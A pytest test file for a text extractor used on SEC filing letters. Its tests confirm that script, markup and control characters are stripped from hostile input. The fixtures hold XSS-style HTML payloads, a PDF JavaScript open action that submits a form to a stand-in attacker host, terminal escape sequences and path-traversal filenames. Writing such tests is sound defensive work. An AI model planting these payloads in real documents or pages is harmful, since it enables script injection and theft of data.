"""Hostile or unusual documents give text only: no markup, no script, no control characters, and
nothing taken from the file's name but what it says the file should be."""

from __future__ import annotations

import io
import re
import zipfile

import pytest

from filings.extraction import ExtractionError, extract_text, sniff

AVERY_LETTER = "www.sec.gov/Archives/edgar/data/8818/000000000023003698/filename1.pdf"
LETTER = "Dear Sir:\r\n\r\n1. We note your revenue.\r\n"


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_it_decodes_utf16_and_utf32_text_that_starts_with_a_byte_order_mark(codec):
    marked = codec in ("utf-16", "utf-32")  # these write their own mark
    data = (LETTER if marked else "\ufeff" + LETTER).encode(codec)
    assert sniff(data) == "text"
    extraction = extract_text(data, filename="filename2.txt")
    assert (extraction.text, extraction.warnings) == ("Dear Sir:\n\n1. We note your revenue.", [])


def test_it_reads_utf16_html_as_html():
    data = "<html><body><p>Dear Sir:</p><p><i>1. We note</i></p></body></html>".encode("utf-16")
    assert sniff(data) == "html"
    extraction = extract_text(data, filename="filename1.htm")
    assert extraction.text == "Dear Sir:\n\n1. We note"
    assert extraction.emphasis == [(11, 21, "i")]


def test_utf16_that_breaks_off_is_decoded_with_a_warning():
    data = LETTER.encode("utf-16") + b"\x00\xd8"  # half a surrogate pair
    extraction = extract_text(data, filename="filename2.txt")
    assert extraction.text.startswith("Dear Sir:")
    assert extraction.warnings == ["not valid UTF-16; undecodable bytes replaced"]


def test_utf16_without_a_mark_is_still_binary():
    assert sniff(LETTER.encode("utf-16-le")) == "binary"


def test_a_pdf_carrying_javascript_gives_its_text_and_nothing_of_the_script(edgar_sample_dir):
    pypdf = pytest.importorskip("pypdf", reason="pypdf writes the JavaScript action")
    from pypdf.actions import JavaScript

    original = (edgar_sample_dir / AVERY_LETTER).read_bytes()
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(original))
    writer.add_open_action(JavaScript("app.alert('owned'); this.submitForm('https://attacker.example/');"))
    buffer = io.BytesIO()
    writer.write(buffer)
    extraction = extract_text(buffer.getvalue(), filename="filename1.pdf")
    assert extraction.text == extract_text(original, filename="filename1.pdf").text
    assert "app.alert" not in extraction.text and "submitForm" not in extraction.text


HOSTILE_HTML = b"""<html><head><title>x</title><script>document.write('<p>injected</p>')</script>
<style>p { background: url(javascript:alert(1)) }</style></head>
<body onload="alert(1)"><p>Dear Sir:</p>
<p><img src="x" onerror="alert('img')">See <a href="javascript:alert('link')">our response</a>.</p>
<p><iframe src="https://attacker.example/"></iframe><svg onload="alert(2)"><script>alert(3)</script></svg>Sincerely,</p>
<noscript><p>enable scripts</p></noscript><template><p>later</p></template>
<p style="display:none">hidden</p></body></html>"""


def test_html_with_scripts_and_handlers_gives_only_its_visible_words():
    extraction = extract_text(HOSTILE_HTML, filename="filename1.htm")
    assert extraction.text == "Dear Sir:\n\nSee our response.\n\nSincerely,"
    assert not re.search(r"[<>]|alert|javascript|injected|hidden|later|enable", extraction.text)


@pytest.mark.parametrize("filename", ["drawing.svg", "filename1.htm", "filename2.txt"])
def test_an_svg_is_an_image_whatever_it_is_named(filename):
    svg = b'<?xml version="1.0"?>\n<!-- drawn -->\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>Hi</text></svg>'
    assert sniff(svg) == "image"
    with pytest.raises(ExtractionError, match="no text in an image document"):
        extract_text(svg, filename=filename)


@pytest.mark.parametrize("filename", ["filename2.txt", "filename1.htm"])
def test_control_characters_never_reach_the_text(filename):
    body = "We note your revenue. " * 200  # a few control characters in a long letter still make text
    data = f"<p>Dear Sir:\x1b[2J\x1b]0;owned\x07 {body}</p><p>Sincerely,\x00\x08</p>".encode()
    text = extract_text(
        data if filename.endswith(".htm") else data.replace(b"<p>", b"").replace(b"</p>", b"\n\n"), filename=filename
    ).text
    assert text == f"Dear Sir:[2J]0;owned {body.strip()}\n\nSincerely,"


def test_a_name_with_folders_and_control_characters_only_says_what_the_file_should_be():
    extraction = extract_text(b"Dear Sir:", filename="../../etc/\x1b[31mletter\x00.txt")
    assert extraction.text == "Dear Sir:"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.bin", b"x")
    with pytest.raises(ExtractionError) as refused:
        extract_text(out.getvalue(), filename="..\\..\\evil\x1b[2J\u202etxt.zip")
    message = str(refused.value)
    assert message == "unsupported format: a ZIP archive (evil[2Jtxt.zip)"
